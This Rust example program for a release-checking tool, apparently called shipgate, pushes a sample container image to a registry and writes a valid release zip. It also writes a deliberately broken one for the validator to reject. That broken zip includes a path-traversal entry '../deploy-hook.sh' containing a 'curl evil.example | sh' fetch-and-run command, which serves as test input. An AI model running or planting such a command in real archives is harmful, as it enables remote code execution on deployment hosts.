//! `shipgate-example`: what an integrator's build does for the demo's sample app (`examples/orders`).
//!
//! It pushes the app's image to the source account's registry (found the way shipgate finds it:
//! `ecr:GetAuthorizationToken`, then `SHIPGATE_REGISTRY_ENDPOINTS`), then writes the release zip
//! with the pushed digest in `release.json`, and a broken variant with several problems at once.

use std::io::Write;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use bytes::Bytes;
use clap::Parser;
use serde_json::{Value, json};
use shipgate::registry::{ecr_registry, media_type};

#[derive(Parser)]
#[command(about = "Push the sample image and write the sample release zips")]
struct Args {
    /// The sample app's folder (release.json, templates/, checks.json).
    #[arg(long, default_value = "examples/orders")]
    app: PathBuf,
    /// The release version to build.
    #[arg(long, default_value = "1.4.0")]
    version: String,
    /// Where to write the zips.
    #[arg(long, default_value = ".local/demo")]
    out: PathBuf,
}

#[tokio::main]
async fn main() -> Result<()> {
    let args = Args::parse();
    let mut manifest: Value =
        serde_json::from_slice(&std::fs::read(args.app.join("release.json"))?)
            .context("examples release.json is JSON")?;
    manifest["version"] = json!(args.version);

    let sdk = shipgate::aws::load_sdk_config().await;
    let env = shipgate::config::Env::from_process();
    let registry = ecr_registry(
        &aws_sdk_ecr::Client::new(&sdk),
        reqwest::Client::new(),
        &env.map("SHIPGATE_REGISTRY_ENDPOINTS")?,
    )
    .await?;
    let images = manifest["images"].as_array_mut().context("images")?;
    for image in images.iter_mut() {
        let repo = image["repository"]
            .as_str()
            .context("repository")?
            .to_owned();
        image["tag"] = json!(args.version);
        let digest = push_image(&registry, &repo, &args.version).await?;
        println!(
            "pushed {}/{repo}:{} as {digest}",
            registry.host(),
            args.version
        );
        image["digest"] = json!(digest);
    }

    std::fs::create_dir_all(&args.out)?;
    let app = manifest["application"].as_str().unwrap_or("app").to_owned();
    let good = args.out.join(format!("{app}-{}.zip", args.version));
    write_zip(&good, &args.app, &manifest, &[])?;
    println!("wrote {}", good.display());

    // The broken variant: an unknown field, a malformed digest, a template that is not in the
    // archive, a path that escapes the archive root, and no integrator email.
    let mut broken = manifest.clone();
    broken["priority"] = json!("urgent");
    broken["images"][0]["digest"] = json!("sha256:1234");
    broken["templates"]
        .as_array_mut()
        .context("templates")?
        .push(json!({"path": "templates/database.yaml", "stack": "database"}));
    broken["integrator"]["email"] = json!("not-an-email");
    let broken_path = args.out.join(format!("{app}-{}-broken.zip", args.version));
    write_zip(
        &broken_path,
        &args.app,
        &broken,
        &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")],
    )?;
    println!("wrote {}", broken_path.display());
    Ok(())
}

/// A small single-arch OCI image: one config blob, one layer of deterministic bytes.
async fn push_image(
    registry: &shipgate::registry::Registry,
    repo: &str,
    tag: &str,
) -> Result<String> {
    let layer: Vec<u8> = (0..64 * 1024u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 ^ tag.len() as u8)
        .collect();
    let layer_size = layer.len();
    let layer_digest = registry.push_blob(repo, Bytes::from(layer)).await?;
    let config = serde_json::to_vec(&json!({
        "architecture": "arm64", "os": "linux",
        "config": {"Labels": {"org.opencontainers.image.version": tag}},
        "rootfs": {"type": "layers", "diff_ids": [layer_digest.as_str()]}
    }))?;
    let config_size = config.len();
    let config_digest = registry.push_blob(repo, Bytes::from(config)).await?;
    let manifest = serde_json::to_vec(&json!({
        "schemaVersion": 2,
        "mediaType": media_type::OCI_MANIFEST,
        "config": {"mediaType": media_type::OCI_CONFIG, "digest": config_digest.as_str(), "size": config_size},
        "layers": [{"mediaType": media_type::OCI_LAYER_GZIP, "digest": layer_digest.as_str(), "size": layer_size}]
    }))?;
    let digest = registry
        .put_manifest(repo, tag, media_type::OCI_MANIFEST, Bytes::from(manifest))
        .await?;
    Ok(digest.as_str().to_owned())
}

fn write_zip(path: &Path, app: &Path, manifest: &Value, extra: &[(&str, &[u8])]) -> Result<()> {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("release.json", options)?;
    zip.write_all(&serde_json::to_vec_pretty(manifest)?)?;
    for entry in ["templates/service.yaml", "checks.json"] {
        zip.start_file(entry, options)?;
        zip.write_all(
            &std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?,
        )?;
    }
    for (name, bytes) in extra {
        zip.start_file(*name, options)?;
        zip.write_all(bytes)?;
    }
    zip.finish()?;
    Ok(())
}
